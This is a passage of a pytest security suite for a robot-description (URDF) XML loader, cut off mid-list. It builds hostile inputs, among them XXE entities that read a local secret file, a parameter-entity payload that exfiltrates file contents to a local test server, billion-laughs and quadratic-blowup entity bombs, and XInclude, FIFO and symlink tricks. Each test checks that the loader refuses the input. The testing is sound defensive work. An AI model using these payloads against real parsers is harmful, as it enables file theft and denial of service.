"""Hostile-input suite for ``RobotModel.from_urdf``.

Contract under test (design of embodyhub/kinematics/urdf.py):

* every malformed / malicious input raises ``embodyhub.errors.URDFError`` -- never another exception
  type, never a hang, never a network request, never a leak of a local file;
* the error message names the offending element (joint / link name where one exists);
* DOCTYPE/ENTITY declarations are refused outright (XXE, external DTDs, parameter entities, entity bombs);
* inputs above the size cap are refused; meshes are never opened;
* exactly-3 finite floats for xyz/rpy/axis, finite limits with lower <= upper, <limit> required for
  revolute/prismatic, non-zero axes (normalized), unique link/joint names, exactly one root, at most one
  parent per link, every link reachable (checked without recursion: a 100k-link chain loads), valid mimic
  targets, unexpanded xacro refused, joint parent/child must exist, unknown joint types refused, root
  element must be ``<robot>``.

Every call is run under a SIGALRM-based per-case time limit (plus a faulthandler watchdog that kills the
process if the main thread is stuck inside C code and cannot take the signal), so the suite never hangs.
"""

from __future__ import annotations

import contextlib
import faulthandler
import http.server
import math
import os
import pathlib
import signal
import threading
import time
import xml.etree.ElementTree as ET
from types import SimpleNamespace

import numpy as np
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from embodyhub.errors import URDFError
from embodyhub.kinematics import RobotModel

CASE_TIMEOUT_S = 3.0  # per-case wall-clock budget (alarm); anything above is a hang
FAST_S = 2.0  # a rejection must come back faster than this
WATCHDOG_S = 60.0  # hard kill if the main thread cannot even take SIGALRM (stuck in C)


# --------------------------------------------------------------------------------------------------
# time limit helpers
# --------------------------------------------------------------------------------------------------


class CaseTimeout(BaseException):
    """Raised from SIGALRM. A BaseException so a reader's ``except Exception`` cannot swallow it."""


@contextlib.contextmanager
def time_limit(seconds: float = CASE_TIMEOUT_S):
    def _on_alarm(signum, frame):
        raise CaseTimeout(f"case did not finish within {seconds} s")

    old = signal.signal(signal.SIGALRM, _on_alarm)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    faulthandler.dump_traceback_later(WATCHDOG_S, exit=True)
    try:
        yield
    except CaseTimeout as exc:
        pytest.fail(f"HANG: {exc}", pytrace=False)
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
        faulthandler.cancel_dump_traceback_later()


def _short(obj, n=200):
    r = repr(obj)
    return r if len(r) <= n else r[:n] + f"...<{len(r)} chars>"


def load(source, seconds: float = CASE_TIMEOUT_S):
    """Load under the time limit; returns the model, lets URDFError through, fails on anything else."""
    with time_limit(seconds):
        try:
            return RobotModel.from_urdf(source)
        except URDFError:
            raise
        except CaseTimeout:
            raise
        except BaseException as exc:  # noqa: BLE001 - the point is to catch everything else
            pytest.fail(
                f"raised {type(exc).__name__} instead of URDFError: {_short(str(exc), 400)}", pytrace=False
            )


def expect_urdf_error(source, contains=(), *, forbidden=()):
    """Assert ``source`` is rejected with URDFError, quickly, with an informative message.

    ``contains``: alternatives; at least one must occur (case-insensitive) in the message.
    ``forbidden``: strings that must not occur in the message (e.g. leaked secrets).
    """
    t0 = time.perf_counter()
    try:
        model = load(source)
    except URDFError as exc:
        err = exc
    else:
        pytest.fail(f"input was accepted (returned {_short(model)}); expected URDFError", pytrace=False)
    elapsed = time.perf_counter() - t0
    assert elapsed < FAST_S, f"rejection took {elapsed:.2f} s (>= {FAST_S} s)"
    msg = str(err)
    assert msg.strip(), "URDFError has an empty message"
    if contains:
        low = msg.lower()
        assert any(c.lower() in low for c in contains), (
            f"error message {msg!r} names none of {list(contains)!r}"
        )
    for f in forbidden:
        assert f not in msg, f"error message leaks {f!r}"
    return err


# --------------------------------------------------------------------------------------------------
# fixtures: local HTTP server that counts requests, secret file, scratch dir
# --------------------------------------------------------------------------------------------------


class _CountingHandler(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def do_GET(self):  # noqa: N802
        type(self).hits.append(self.path)
        body = b'<!ENTITY leak "PWNED_BY_HTTP">'
        self.send_response(200)
        self.send_header("Content-Type", "application/xml-dtd")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):  # keep test output clean
        pass


@pytest.fixture(scope="module")
def http_server():
    hits: list = []
    handler = type("Handler", (_CountingHandler,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.timeout = 0.5
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    host, port = server.server_address[:2]
    try:
        yield SimpleNamespace(url=f"http://{host}:{port}", hits=hits)
    finally:
        server.shutdown()
        server.server_close()


SECRET = "TOP-SECRET-7f3a9c1e-do-not-leak"


@pytest.fixture(scope="module")
def ctx(tmp_path_factory, http_server):
    tmp = tmp_path_factory.mktemp("urdf_hostile")
    secret_path = tmp / "secret.txt"
    secret_path.write_text(SECRET)
    return SimpleNamespace(
        tmp=tmp,
        secret_path=secret_path,
        secret_uri=secret_path.resolve().as_uri(),
        url=http_server.url,
        hits=http_server.hits,
    )


def _size_cap() -> int:
    """The reader's size cap if it exposes one as a module constant; otherwise a generous guess."""
    import embodyhub.kinematics.urdf as urdf_mod

    best = None
    for name, val in vars(urdf_mod).items():
        if not name.isupper() or not isinstance(val, int) or isinstance(val, bool):
            continue
        if any(k in name for k in ("MAX", "CAP", "SIZE", "LIMIT")) and any(
            k in name for k in ("BYTE", "SIZE", "LEN", "CHAR")
        ):
            if val >= 100_000:
                best = val if best is None else max(best, val)
    return best if best is not None else 64 * 1024 * 1024


# --------------------------------------------------------------------------------------------------
# URDF builders
# --------------------------------------------------------------------------------------------------

VALID = """<?xml version="1.0"?>
<robot name="tiny">
  <link name="base"/>
  <link name="upper">
    <visual><geometry><box size="0.1 0.1 0.1"/></geometry></visual>
  </link>
  <link name="lower"/>
  <link name="tool"/>
  <joint name="shoulder" type="revolute">
    <parent link="base"/><child link="upper"/>
    <origin xyz="0 0 0.5" rpy="0 0 0"/>
    <axis xyz="0 0 1"/>
    <limit lower="-1.5" upper="1.5" effort="10" velocity="2"/>
  </joint>
  <joint name="slide" type="prismatic">
    <parent link="upper"/><child link="lower"/>
    <origin xyz="0.1 0 0" rpy="0 0.5 0"/>
    <axis xyz="1 0 0"/>
    <limit lower="0" upper="0.2" effort="5" velocity="0.5"/>
  </joint>
  <joint name="wrist" type="continuous">
    <parent link="lower"/><child link="tool"/>
    <origin xyz="0 0 0.1"/>
    <axis xyz="0 1 0"/>
  </joint>
</robot>
"""


def J(name, jtype, parent, child, *, xyz="0 0 0", rpy="0 0 0", axis="0 0 1", limit=True, lower="-1",
      upper="1", effort="1", velocity="1", mimic=None, extra=""):
    """One <joint> element as text. ``limit``: True (default limit), False (omitted)."""
    parts = [f'<joint name="{name}" type="{jtype}">', f'<parent link="{parent}"/>', f'<child link="{child}"/>']
    if xyz is not None or rpy is not None:
        o = "<origin"
        if xyz is not None:
            o += f' xyz="{xyz}"'
        if rpy is not None:
            o += f' rpy="{rpy}"'
        parts.append(o + "/>")
    if axis is not None:
        parts.append(f'<axis xyz="{axis}"/>')
    if limit:
        parts.append(f'<limit lower="{lower}" upper="{upper}" effort="{effort}" velocity="{velocity}"/>')
    if mimic is not None:
        parts.append(f'<mimic joint="{mimic}" multiplier="1" offset="0"/>')
    parts.append(extra)
    parts.append("</joint>")
    return "".join(parts)


def robot(links, joints, name="r", head='<?xml version="1.0"?>\n', attrs=""):
    body = "".join(f'<link name="{ln}"/>' for ln in links) + "".join(joints)
    return f'{head}<robot name="{name}"{attrs}>{body}</robot>'


def one_joint(**kw):
    """base -> arm through a single joint named j_bad with overrides."""
    jtype = kw.pop("jtype", "revolute")
    return robot(["base", "arm"], [J("j_bad", jtype, "base", "arm", **kw)])


# --------------------------------------------------------------------------------------------------
# hostile cases: (id, factory(ctx) -> source, alternatives the message must contain one of)
# --------------------------------------------------------------------------------------------------

DTD_WORDS = ("doctype", "entity", "dtd")


def _xxe_file(c):
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE robot [<!ENTITY xxe SYSTEM "{c.secret_uri}">]>\n'
        '<robot name="&xxe;"><link name="&xxe;"/></robot>'
    )


def _xxe_file_plainpath(c):
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE robot [<!ENTITY xxe SYSTEM "{c.secret_path}">]>\n'
        '<robot name="r"><link name="base"/><link name="arm"/>'
        '<joint name="&xxe;" type="fixed"><parent link="base"/><child link="arm"/></joint></robot>'
    )


def _xxe_url(c):
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE robot [<!ENTITY xxe SYSTEM "{c.url}/xxe">]>\n'
        '<robot name="r"><link name="&xxe;"/></robot>'
    )


def _external_dtd(c):
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE robot SYSTEM "{c.url}/robot.dtd">\n'
        '<robot name="r"><link name="base"/></robot>'
    )


def _external_dtd_public(c):
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE robot PUBLIC "-//EVIL//DTD//EN" "{c.url}/public.dtd">\n'
        '<robot name="r"><link name="base"/></robot>'
    )


def _param_entity(c):
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE robot [<!ENTITY % remote SYSTEM "{c.url}/param.dtd"> %remote;]>\n'
        '<robot name="r"><link name="&leak;"/></robot>'
    )


def _param_entity_exfil(c):
    return (
        '<?xml version="1.0"?>\n'
        "<!DOCTYPE robot [\n"
        f'  <!ENTITY % file SYSTEM "{c.secret_uri}">\n'
        f"  <!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{c.url}/exfil?%file;'>\">\n"
        "  %wrap; %send;\n"
        "]>\n"
        '<robot name="r"><link name="base"/></robot>'
    )


def _billion_laughs(c):
    ents = ['<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        ents.append(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">')
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE robot [' + "".join(ents) + "]>\n"
        '<robot name="&lol9;"><link name="&lol9;"/></robot>'
    )


def _quadratic_blowup(c):
    big = "A" * 100_000
    refs = "&big;" * 20_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE robot [<!ENTITY big "{big}">]>\n'
        f'<robot name="r"><link name="base">{refs}</link></robot>'
    )


def _internal_doctype_only(c):
    return '<?xml version="1.0"?>\n<!DOCTYPE robot>\n<robot name="r"><link name="base"/></robot>'


def _internal_entity_harmless(c):
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE robot [<!ENTITY n "base">]>\n'
        '<robot name="r"><link name="&n;"/></robot>'
    )


def _doctype_after_comment(c):
    return (
        '<?xml version="1.0"?>\n<!-- innocent -->\n<?pi x?>\n'
        f'<!DOCTYPE robot [<!ENTITY xxe SYSTEM "{c.secret_uri}">]>\n'
        '<robot name="r"><link name="&xxe;"/></robot>'
    )


def _utf16(make, codec="utf-16", decl="UTF-16"):
    def factory(c):
        text = make(c).replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{decl}"?>')
        return text.encode(codec)

    return factory


def _as_bytes(make):
    return lambda c: make(c).encode("utf-8")


def _as_file(make, name="hostile.urdf"):
    def factory(c):
        p = c.tmp / name
        data = make(c)
        if isinstance(data, bytes):
            p.write_bytes(data)
        else:
            p.write_text(data, encoding="utf-8")
        return p

    return factory


XXE_CASES = [
    ("xxe_local_file", _xxe_file),
    ("xxe_local_file_plain_path", _xxe_file_plainpath),
    ("xxe_url", _xxe_url),
    ("external_dtd_system", _external_dtd),
    ("external_dtd_public", _external_dtd_public),
    ("parameter_entity_remote", _param_entity),
    ("parameter_entity_exfiltration", _param_entity_exfil),
    ("billion_laughs", _billion_laughs),
    ("quadratic_blowup", _quadratic_blowup),
    ("doctype_no_entities", _internal_doctype_only),
    ("internal_entity_harmless", _internal_entity_harmless),
    ("doctype_after_comment_and_pi", _doctype_after_comment),
]

# Non-UTF-8 encodings may legitimately be refused as an encoding problem before the DOCTYPE is seen.
ENCODING_WORDS = DTD_WORDS + ("encod", "utf", "decode", "xml", "pars", "well-formed", "charset")

ENTITY_CASES = []
for _name, _make in XXE_CASES:
    ENTITY_CASES.append((_name + "[str]", _make, DTD_WORDS))
    ENTITY_CASES.append((_name + "[bytes]", _as_bytes(_make), DTD_WORDS))
    ENTITY_CASES.append((_name + "[utf16-bom]", _utf16(_make), ENCODING_WORDS))
    ENTITY_CASES.append((_name + "[utf16le-nobom]", _utf16(_make, "utf-16-le"), ENCODING_WORDS))
    ENTITY_CASES.append((_name + "[utf16be-nobom]", _utf16(_make, "utf-16-be"), ENCODING_WORDS))
for _name, _make in [("xxe_local_file", _xxe_file), ("xxe_url", _xxe_url), ("billion_laughs", _billion_laughs)]:
    ENTITY_CASES.append((_name + "[file]", _as_file(_make), DTD_WORDS))
    ENTITY_CASES.append((_name + "[utf16-file]", _as_file(_utf16(_make), "hostile16.urdf"), ENCODING_WORDS))
    ENTITY_CASES.append((_name + "[utf32]", _utf16(_make, "utf-32", "UTF-32"), ENCODING_WORDS))


@pytest.mark.parametrize(
    "factory,contains", [(f, w) for _, f, w in ENTITY_CASES], ids=[n for n, _, _ in ENTITY_CASES]
)
def test_entity_and_dtd_attacks_rejected(ctx, factory, contains):
    before = len(ctx.hits)
    source = factory(ctx)
    expect_urdf_error(source, contains, forbidden=(SECRET, "PWNED_BY_HTTP"))
    # give a (wrongly) spawned request a moment to land before counting
    time.sleep(0.01)
    assert len(ctx.hits) == before, f"reader made HTTP requests: {ctx.hits[before:]}"


def test_xxe_server_received_zero_requests(ctx):
    """Runs after the entity cases in file order; the server must never have been contacted."""
    assert ctx.hits == [], f"HTTP requests reached the server: {ctx.hits}"


def test_xinclude_is_not_processed(ctx):
    src = (
        '<?xml version="1.0"?>\n<robot name="r" xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<link name="base"/><link name="arm"/>'
        f'<joint name="j" type="fixed"><parent link="base"/><child link="arm"/>'
        f'<xi:include href="{ctx.secret_path}" parse="text"/>'
        f'<xi:include href="{ctx.url}/xinclude" parse="text"/></joint></robot>'
    )
    try:
        model = load(src)
    except URDFError as exc:
        assert SECRET not in str(exc)
    else:
        dump = repr(model.name) + repr(list(model.links)) + repr(list(model.joints))
        for j in model.joints.values():
            dump += repr((j.name, j.parent, j.child))
        assert SECRET not in dump
    assert ctx.hits == []


# ---- structure ----------------------------------------------------------------------------------

STRUCTURE_CASES = [
    (
        "cycle_no_root",
        lambda c: robot(["link_a", "link_b"], [J("j_ab", "fixed", "link_a", "link_b"),
                                               J("j_ba", "fixed", "link_b", "link_a")]),
        ("root", "cycle", "link_a", "link_b", "j_ab", "j_ba"),
    ),
    (
        "cycle_three_no_root",
        lambda c: robot(["la", "lb", "lc"], [J("j1", "revolute", "la", "lb"), J("j2", "revolute", "lb", "lc"),
                                             J("j3", "revolute", "lc", "la")]),
        ("root", "cycle", "la", "lb", "lc"),
    ),
    (
        "detached_cycle_beside_root",
        lambda c: robot(["root_l", "x_link", "y_link"], [J("j_xy", "fixed", "x_link", "y_link"),
                                                         J("j_yx", "fixed", "y_link", "x_link")]),
        ("x_link", "y_link", "j_xy", "j_yx", "cycle", "reach", "root"),
    ),
    (
        "self_loop",
        lambda c: robot(["base", "loop_link"], [J("j_base", "fixed", "base", "loop_link"),
                                                J("j_self", "revolute", "loop_link", "loop_link")]),
        ("j_self", "loop_link"),
    ),
    (
        "self_loop_only_link",
        lambda c: robot(["solo"], [J("j_self", "fixed", "solo", "solo")]),
        ("j_self", "solo"),
    ),
    (
        "two_parents",
        lambda c: robot(["base", "mid", "child_c"], [J("j1", "fixed", "base", "mid"),
                                                     J("j2", "fixed", "base", "child_c"),
                                                     J("j3", "fixed", "mid", "child_c")]),
        ("child_c", "j2", "j3"),
    ),
    (
        "two_roots_disconnected",
        lambda c: robot(["base", "arm", "island"], [J("j1", "fixed", "base", "arm")]),
        ("island", "root"),
    ),
    (
        "two_roots_two_trees",
        lambda c: robot(["b1", "a1", "b2", "a2"], [J("j1", "fixed", "b1", "a1"), J("j2", "fixed", "b2", "a2")]),
        ("root", "b1", "b2"),
    ),
    (
        "duplicate_link",
        lambda c: robot(["base", "dup_link", "dup_link"], [J("j1", "fixed", "base", "dup_link")]),
        ("dup_link",),
    ),
    (
        "duplicate_joint",
        lambda c: robot(["base", "a", "b"], [J("dup_joint", "fixed", "base", "a"),
                                             J("dup_joint", "fixed", "a", "b")]),
        ("dup_joint",),
    ),
    (
        "joint_missing_child_link",
        lambda c: robot(["base"], [J("j_ghost", "fixed", "base", "ghost_link")]),
        ("j_ghost", "ghost_link"),
    ),
    (
        "joint_missing_parent_link",
        lambda c: robot(["base"], [J("j_ghost", "fixed", "ghost_link", "base")]),
        ("j_ghost", "ghost_link"),
    ),
    (
        "joint_without_parent_element",
        lambda c: robot(["base", "arm"], [
            '<joint name="j_noparent" type="fixed"><child link="arm"/></joint>']),
        ("j_noparent", "parent"),
    ),
    (
        "joint_without_child_element",
        lambda c: robot(["base", "arm"], [
            '<joint name="j_nochild" type="fixed"><parent link="base"/></joint>']),
        ("j_nochild", "child"),
    ),
    (
        "root_element_not_robot",
        lambda c: '<?xml version="1.0"?><model name="m"><link name="base"/></model>',
        ("robot", "model"),
    ),
    (
        "root_element_sdf",
        lambda c: '<sdf version="1.6"><model name="m"><link name="base"/></model></sdf>',
        ("robot", "sdf"),
    ),
    (
        "root_element_namespaced_robot",
        lambda c: '<x:robot xmlns:x="urn:evil" name="r"><link name="base"/></x:robot>',
        ("robot",),
    ),
    ("no_links_empty_robot", lambda c: '<robot name="r"/>', ("link",)),
    ("no_links_only_joint", lambda c: robot([], [J("j1", "fixed", "a", "b")]), ("link", "j1", "a", "b")),
    (
        "link_without_name",
        lambda c: '<robot name="r"><link/></robot>',
        ("link", "name"),
    ),
    (
        "joint_without_name",
        lambda c: robot(["base", "arm"], ['<joint type="fixed"><parent link="base"/><child link="arm"/></joint>']),
        ("joint", "name"),
    ),
]


@pytest.mark.parametrize(
    "factory,contains", [(f, w) for _, f, w in STRUCTURE_CASES], ids=[n for n, _, _ in STRUCTURE_CASES]
)
def test_structure_rejected(ctx, factory, contains):
    expect_urdf_error(factory(ctx), contains)


# ---- numbers ------------------------------------------------------------------------------------

BAD_FLOATS = ["nan", "NaN", "inf", "-inf", "Infinity", "1e400", "-1e400"]

NUMBER_CASES = []
for _bad in BAD_FLOATS:
    NUMBER_CASES += [
        (f"xyz_{_bad}", dict(xyz=f"0 {_bad} 0")),
        (f"rpy_{_bad}", dict(rpy=f"{_bad} 0 0")),
        (f"axis_{_bad}", dict(axis=f"0 0 {_bad}")),
        (f"limit_lower_{_bad}", dict(lower=_bad)),
        (f"limit_upper_{_bad}", dict(upper=_bad)),
    ]
for _bad in ["nan", "inf", "1e400"]:
    NUMBER_CASES += [
        (f"limit_effort_{_bad}", dict(effort=_bad)),
        (f"limit_velocity_{_bad}", dict(velocity=_bad)),
        (f"prismatic_limit_upper_{_bad}", dict(jtype="prismatic", upper=_bad)),
        (f"prismatic_axis_{_bad}", dict(jtype="prismatic", axis=f"{_bad} 0 0")),
        (f"fixed_xyz_{_bad}", dict(jtype="fixed", xyz=f"{_bad} 0 0")),
        (f"continuous_rpy_{_bad}", dict(jtype="continuous", rpy=f"0 0 {_bad}")),
    ]
NUMBER_CASES += [
    ("xyz_two_numbers", dict(xyz="0 0")),
    ("xyz_four_numbers", dict(xyz="0 0 0 0")),
    ("xyz_one_number", dict(xyz="1")),
    ("rpy_two_numbers", dict(rpy="0 0")),
    ("rpy_four_numbers", dict(rpy="0 0 0 1")),
    ("axis_two_numbers", dict(axis="0 1")),
    ("axis_four_numbers", dict(axis="0 0 1 0")),
    ("xyz_non_numeric", dict(xyz="a b c")),
    ("xyz_commas", dict(xyz="1,2,3")),
    ("rpy_non_numeric", dict(rpy="0 zero 0")),
    ("axis_non_numeric", dict(axis="x y z")),
    ("limit_lower_non_numeric", dict(lower="low")),
    ("limit_upper_non_numeric", dict(upper="")),
    ("limit_inverted", dict(lower="1.0", upper="-1.0")),
    ("prismatic_limit_inverted", dict(jtype="prismatic", lower="0.5", upper="0.1")),
    ("revolute_missing_limit", dict(limit=False)),
    ("prismatic_missing_limit", dict(jtype="prismatic", limit=False)),
    ("revolute_zero_axis", dict(axis="0 0 0")),
    ("prismatic_zero_axis", dict(jtype="prismatic", axis="0 0 0")),
    ("continuous_zero_axis", dict(jtype="continuous", axis="0.0 -0.0 0e5")),
    ("unknown_joint_type", dict(jtype="banana")),
    ("unknown_joint_type_capitalized", dict(jtype="Revolute")),
    ("unknown_joint_type_spherical", dict(jtype="spherical")),
    ("empty_joint_type", dict(jtype="")),
]


@pytest.mark.parametrize("kw", [k for _, k in NUMBER_CASES], ids=[n for n, _ in NUMBER_CASES])
def test_bad_numbers_and_joint_fields_rejected(kw):
    expect_urdf_error(one_joint(**dict(kw)), ("j_bad",))


# finite but beyond the documented physical bound (MAX_URDF_VALUE = 1e16): an axis of 1e200 overflowed its
# norm to inf and became (0, 0, 0) (FK then NaN), and limits of +-1.7e308 overflowed upper - lower
HUGE_CASES = [
    ("axis_1e200", lambda: one_joint(axis="1e200 0 0")),
    ("axis_1e17", lambda: one_joint(axis="0 1e17 0")),
    ("limits_max_float", lambda: one_joint(lower="-1.7e308", upper="1.7e308")),
    ("limit_upper_1e17", lambda: one_joint(upper="1e17")),
    ("velocity_1e300", lambda: one_joint(velocity="1e300")),
    ("xyz_1e300", lambda: one_joint(xyz="1e300 0 0")),
    ("rpy_1e300", lambda: one_joint(rpy="0 1e300 0")),
    ("prismatic_lower_1e300", lambda: one_joint(jtype="prismatic", lower="-1e300")),
    ("mimic_multiplier_1e300", lambda: robot(["base", "a", "b"], [
        J("j_src", "revolute", "base", "a"), J("j_bad", "revolute", "a", "b", extra='<mimic joint="j_src" multiplier="1e300"/>'),
    ])),
]


@pytest.mark.parametrize("make", [m for _, m in HUGE_CASES], ids=[n for n, _ in HUGE_CASES])
def test_numbers_beyond_the_physical_bound_rejected(make):
    err = expect_urdf_error(make(), ("j_bad",))
    assert "1e+16" in str(err)


def test_gazebo_unbounded_limits_at_the_bound_load_with_finite_kinematics():
    """1e16 (SDF's "unbounded") is within the bound: it loads and its FK and sampling stay finite."""
    import torch

    model = load(one_joint(lower="-1e16", upper="1e16", axis="0 0 1e16", xyz="1e16 0 0"))
    chain = model.chain("base", "arm")
    lower, upper, _ = model.limits(["j_bad"])
    q = torch.cat([lower, upper, torch.zeros(1)])[:, None]
    assert torch.isfinite(chain.forward_kinematics(q)).all()
    assert list(model.joints["j_bad"].axis) == pytest.approx([0, 0, 1])


def test_object_limits_and_mimic_beyond_the_bound_rejected():
    expect_urdf_error(_one_obj_joint(limit=SimpleNamespace(lower=-1.7e308, upper=1.7e308, effort=1.0, velocity=1.0)), ("j_bad",))
    expect_urdf_error(_one_obj_joint(axis=(1e200, 0.0, 0.0)), ("j_bad",))
    for mimic in (SimpleNamespace(joint="j_src", multiplier=float("nan"), offset=0.0), SimpleNamespace(joint="j_src", multiplier=1.0, offset=1e300)):
        joints = [_ojoint("j_src", "revolute", "base", "a"), _ojoint("j_bad", "revolute", "a", "b", mimic=mimic)]
        expect_urdf_error(_orobot(["base", "a", "b"], joints), ("j_bad",))


def test_deep_nesting_is_refused_at_the_depth_cap_quickly():
    """200k nested elements (within the size cap) took 3-9 s and +690 MB; now the parser stops at depth 65."""
    src = '<robot name="r">' + "<a>" * 200_000 + "</a>" * 200_000 + "</robot>"
    t0 = time.perf_counter()
    expect_urdf_error(src, ("deep",))
    assert time.perf_counter() - t0 < 0.5


def test_missing_joint_type_attribute_rejected():
    src = robot(["base", "arm"], ['<joint name="j_bad"><parent link="base"/><child link="arm"/></joint>'])
    expect_urdf_error(src, ("j_bad",))


# ---- mimic ----------------------------------------------------------------------------------------


def _mimic_robot(target, target_type="revolute"):
    return robot(
        ["base", "a", "b"],
        [J("j_src", target_type, "base", "a"), J("j_mimic", "revolute", "a", "b", mimic=target)],
    )


MIMIC_CASES = [
    ("mimic_missing_joint", lambda: _mimic_robot("no_such_joint")),
    ("mimic_itself", lambda: _mimic_robot("j_mimic")),
    ("mimic_fixed_joint", lambda: _mimic_robot("j_src", "fixed")),
    (
        "mimic_without_joint_attribute",
        lambda: robot(["base", "a", "b"], [J("j_src", "revolute", "base", "a"),
                                           J("j_mimic", "revolute", "a", "b", extra="<mimic multiplier='1'/>")]),
    ),
]


@pytest.mark.parametrize("make", [m for _, m in MIMIC_CASES], ids=[n for n, _ in MIMIC_CASES])
def test_bad_mimic_rejected(make):
    expect_urdf_error(make(), ("j_mimic",))


# ---- xacro ---------------------------------------------------------------------------------------

XACRO_NS = 'xmlns:xacro="http://www.ros.org/wiki/xacro"'

XACRO_CASES = [
    (
        "xacro_macro_with_namespace",
        robot(["base"], ['<xacro:macro name="arm" params="prefix"><link name="${prefix}_l"/></xacro:macro>'],
              attrs=" " + XACRO_NS),
    ),
    (
        "xacro_property_with_namespace",
        robot(["base"], ['<xacro:property name="pi2" value="1.57"/>'], attrs=" " + XACRO_NS),
    ),
    ("xacro_include", robot(["base"], ['<xacro:include filename="other.xacro"/>'], attrs=" " + XACRO_NS)),
    (
        "xacro_element_other_prefix",
        robot(["base"], ['<x:property name="pi2" value="1.57"/>'],
              attrs=' xmlns:x="http://www.ros.org/wiki/xacro"'),
    ),
    (
        "xacro_element_unbound_prefix",
        '<robot name="r"><link name="base"/><xacro:include filename="$(find pkg)/a.xacro"/></robot>',
    ),
    ("dollar_brace_in_rpy", one_joint(rpy="0 0 ${pi/2}")),
    ("dollar_brace_in_limit", one_joint(upper="${pi}")),
    ("dollar_brace_in_name", robot(["base", "${prefix}_arm"], [J("j_bad", "fixed", "base", "${prefix}_arm")])),
    (
        "dollar_paren_find_in_mesh",
        robot(["base"], []).replace(
            '<link name="base"/>',
            '<link name="base"><visual><geometry><mesh filename="$(find my_pkg)/meshes/base.stl"/>'
            "</geometry></visual></link>",
        ),
    ),
    ("dollar_paren_arg_in_xyz", one_joint(xyz="$(arg x) 0 0")),
]


@pytest.mark.parametrize("src", [s for _, s in XACRO_CASES], ids=[n for n, _ in XACRO_CASES])
def test_unexpanded_xacro_rejected(src):
    expect_urdf_error(src, ("xacro", "${", "$("))


# ---- malformed / degenerate inputs --------------------------------------------------------------


def _oversize_text(cap):
    pad = cap + 1024 * 1024
    head = '<?xml version="1.0"?>\n<robot name="big"><link name="base"/><!-- '
    tail = " --></robot>\n"
    return head + "x" * pad + tail


def _oversize_file(c):
    p = c.tmp / "oversize.urdf"
    if not p.exists():
        p.write_text(_oversize_text(_size_cap()))
    return p


def _fifo(c):
    p = c.tmp / "source.fifo"  # reading a FIFO without a writer blocks forever
    if not p.exists():
        os.mkfifo(p)
    return p


def _symlink(c, target, name="zero.urdf"):
    p = c.tmp / name
    if not p.is_symlink():
        p.symlink_to(target)
    return p


SIZE_WORDS = ("size", "large", "byte", "mb", "cap", "limit", "exceed", "big")

DEGENERATE_CASES = [
    ("truncated_half", lambda c: VALID[: len(VALID) // 2], ()),
    ("truncated_half_bytes", lambda c: VALID.encode()[: len(VALID) // 2], ()),
    ("truncated_missing_close", lambda c: VALID.rsplit("</robot>", 1)[0], ()),
    ("truncated_file", _as_file(lambda c: VALID[: len(VALID) // 3], "trunc.urdf"), ()),
    ("empty_string", lambda c: "", ()),
    ("empty_bytes", lambda c: b"", ()),
    ("whitespace_string", lambda c: "   \n\t  \r\n", ()),
    ("whitespace_bytes", lambda c: b" \n\t \n", ()),
    ("garbage_text", lambda c: "this is not xml at all {}[]", ()),
    ("garbage_angle_text", lambda c: "<<<>>> <robot <link>>", ()),
    ("garbage_bytes", lambda c: bytes(range(256)) * 4, ()),
    ("garbage_bytes_lt", lambda c: b"<\x00\xff\xfe\x89PNG\r\n\x1a\n" + os.urandom(512), ()),
    ("bom_only", lambda c: b"\xef\xbb\xbf", ()),
    ("xml_decl_only", lambda c: '<?xml version="1.0"?>', ()),
    ("comment_only", lambda c: "<!-- nothing -->", ()),
    ("two_root_elements", lambda c: '<robot name="a"><link name="x"/></robot><robot name="b"/>', ()),
    ("nul_in_xml", lambda c: '<robot name="r">\x00<link name="base"/></robot>', ()),
    ("lone_surrogate_in_str", lambda c: '<robot name="\ud800"><link name="base"/></robot>', ()),
    ("invalid_utf8_bytes", lambda c: b'<robot name="\xff\xfe"><link name="base"/></robot>', ()),
    ("unknown_encoding_decl", lambda c: b'<?xml version="1.0" encoding="x-evil-7"?><robot name="r"/>', ()),
    ("deeply_nested_elements", lambda c: '<robot name="r">' + "<a>" * 200_000 + "</a>" * 200_000 + "</robot>", ()),
    ("oversize_string", lambda c: _oversize_text(_size_cap()), SIZE_WORDS),
    ("oversize_bytes", lambda c: _oversize_text(_size_cap()).encode(), SIZE_WORDS),
    ("oversize_file_path", _oversize_file, SIZE_WORDS),
    ("oversize_file_str_path", lambda c: str(_oversize_file(c)), SIZE_WORDS),
    (
        "missing_file_path",
        lambda c: c.tmp / "does_not_exist.urdf",
        ("does_not_exist", "exist", "not found", "no such"),
    ),
    (
        "missing_file_str_path",
        lambda c: str(c.tmp / "does_not_exist.urdf"),
        ("does_not_exist", "exist", "not found", "no such"),
    ),
    ("missing_relative_str_path", lambda c: "definitely/not/here.urdf", ("here.urdf", "exist", "not found")),
    ("fifo_path", lambda c: _fifo(c), ()),
    ("fifo_str_path", lambda c: str(_fifo(c)), ()),
    ("symlink_to_dev_zero", lambda c: _symlink(c, "/dev/zero"), ()),
    ("symlink_loop", lambda c: _symlink(c, str(c.tmp / "loop.urdf"), "loop.urdf"), ()),
    ("xxe_in_utf7", lambda c: _xxe_file(c).replace('version="1.0"?>', 'version="1.0" encoding="UTF-7"?>')
     .encode("utf-7"), ()),
